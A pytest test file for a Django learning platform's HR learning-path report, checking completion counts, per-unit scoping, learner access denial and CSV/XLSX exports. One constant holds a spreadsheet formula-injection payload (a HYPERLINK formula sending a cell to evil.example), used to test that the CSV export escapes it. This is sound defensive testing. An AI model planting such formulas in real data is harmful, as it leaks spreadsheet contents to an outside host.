"""HR's report per learning path: the people with a required course of the path within the viewer's part
of the group, how many completed the whole path; others may not open it."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from lms.courses.models import CoursePage, Enrolment
from lms.paths.admin_views import PathReportSpreadsheet
from lms.paths.selectors import path_course_pages, path_report
from tests.certificates.factories import complete, make_learner
from tests.factories import OrgUnitFactory, PersonFactory, hr_user
from tests.helpers import status_and_location

from .factories import make_chain, make_path

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'


@pytest.fixture
def world(home_page, django_capture_on_commit_callbacks):
    chain = make_chain(2)
    path = make_path(*(c for c, _ in chain), title="Väg")
    here, there = OrgUnitFactory(), OrgUnitFactory()
    done, halfway, elsewhere = (
        PersonFactory(org_unit=here),
        PersonFactory(org_unit=here),
        PersonFactory(org_unit=there),
    )
    for person in (done, halfway, elsewhere):
        for course, _ in chain:
            Enrolment.objects.create(person=person, course=course, is_required=True)
    with django_capture_on_commit_callbacks(execute=True):
        complete(done, chain[0][1])
        complete(done, chain[1][1])
        complete(halfway, chain[0][1])
        complete(elsewhere, chain[0][1])
        complete(elsewhere, chain[1][1])
    return path, here


def test_the_whole_group(world):
    (row,) = path_report(user=hr_user())
    assert (row.required, row.completed, row.certificates) == (3, 2, 2)
    assert [n for _course, n in row.courses] == [3, 2]


def test_a_scoped_viewer_sees_only_their_part(world, client):
    _path, here = world
    user = hr_user(scope=here)
    (row,) = path_report(user=user)
    assert (row.required, row.completed, row.certificates) == (2, 1, 1)
    client.force_login(user)
    response = client.get(reverse("paths_report"))
    assert response.status_code == 200 and "1 / 2 (50 %)" in response.content.decode()


def test_a_learner_may_not_open_it(world, client):
    client.force_login(make_learner(username="elev").user)
    assert status_and_location(client.get(reverse("paths_report"))) == (302, "/admin/login/")


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_csv_export_within_the_viewers_part_safe_from_formulas(world, client):
    path, here = world
    first = path_course_pages(path=path)[0]
    CoursePage.objects.filter(pk=first.pk).update(title=HYPERLINK)
    client.force_login(hr_user(scope=here))
    page = client.get(reverse("paths_report"))
    assert 'href="?export=csv"' in page.content.decode()
    response = client.get(reverse("paths_report"), {"export": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="learning-paths.csv"' in response["Content-Disposition"]
    with translation.override("sv"):
        heading = [str(h) for _name, h in PathReportSpreadsheet.export_columns]
    assert csv_rows(response) == [
        heading,
        ["Väg", "1", "'" + HYPERLINK, "2", "2", "100", ""],
        ["Väg", "2", "Kurs 2", "2", "1", "50", ""],
        ["Väg", "", "Hela vägen", "2", "1", "50", "1"],
    ]


def test_the_xlsx_export_and_no_export_for_a_learner(world, client):
    client.force_login(hr_user())
    response = client.get(reverse("paths_report"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert [c.value for c in sheet[4]] == ["Väg", None, "Hela vägen", 3, 2, 67, 2]
    client.force_login(make_learner(username="elev").user)
    assert status_and_location(client.get(reverse("paths_report"), {"export": "csv"})) == (302, "/admin/login/")
